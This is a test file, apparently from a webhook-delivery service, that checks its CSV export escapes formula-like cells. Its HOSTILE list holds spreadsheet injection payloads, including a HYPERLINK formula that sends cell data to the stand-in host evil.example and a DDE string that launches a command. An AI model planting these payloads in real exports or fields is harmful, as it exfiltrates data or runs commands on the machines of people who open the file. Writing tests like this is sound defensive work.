import { beforeAll, describe, expect, it } from "vitest";
import { exportDeliveries } from "../../lib/deliveries/export-deliveries";
import { useFreshDatabase, type TestDatabase } from "../helpers/db";
import { createDestination, createOrg } from "../helpers/fixtures";

// An ingest key chooses event types, a lead names destinations, a receiver writes the error
// text: any of them can start a cell with "=", and the admin who opens the export in a
// spreadsheet would run it. Every such cell must be escaped (a leading ').

let db: TestDatabase;
let orgId: string;

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+SUM(1,2)",
  "-2+3",
  "@cmd|' /C calc'!A0",
  "\tTAB",
  "\rCR",
];

beforeAll(async () => {
  db = await useFreshDatabase();
  orgId = await createOrg(db.pool);
  for (const [i, text] of HOSTILE.entries()) {
    const destination = await createDestination(db.pool, orgId, {
      name: `${text}`.slice(0, 90),
      url: `http://127.0.0.1:9/${i}`,
    });
    const log = await db.pool.query<{ id: string }>(
      "INSERT INTO activity_logs (org_id, event_type, payload) VALUES ($1, $2, '{}') RETURNING id",
      [orgId, text],
    );
    await db.pool.query(
      "INSERT INTO webhook_deliveries (destination_id, log_id, status, attempts, error_message) VALUES ($1, $2, 'dead', 1, $3)",
      [destination.id, log.rows[0]!.id, text],
    );
  }
});

describe("the deliveries CSV export", () => {
  it("escapes every cell a spreadsheet would read as a formula, in event type, destination name and error", async () => {
    let csv = "";
    for await (const chunk of exportDeliveries(orgId, {}, "csv")) csv += chunk;
    // Each hostile text appears only escaped: a quote mark before its first character.
    for (const text of HOSTILE) {
      const quoted = (t: string) => (/[",\n\r]/.test(t) ? `"${t.replace(/"/g, '""')}"` : t);
      expect(csv, JSON.stringify(text)).toContain(quoted(`'${text}`));
      const cells = csv.split(/,|\n/);
      expect(
        cells.some((c) => c === text || c === `"${text.replace(/"/g, '""')}"`),
        JSON.stringify(text),
      ).toBe(false);
    }
  });

  it("leaves numbers and ordinary text as they are", async () => {
    let csv = "";
    for await (const chunk of exportDeliveries(orgId, {}, "csv")) csv += chunk;
    const row = csv.split("\n")[1]!;
    expect(row).toMatch(/,dead,/);
    expect(row).toMatch(/,1,/); // attempts: a number, not escaped
  });
});
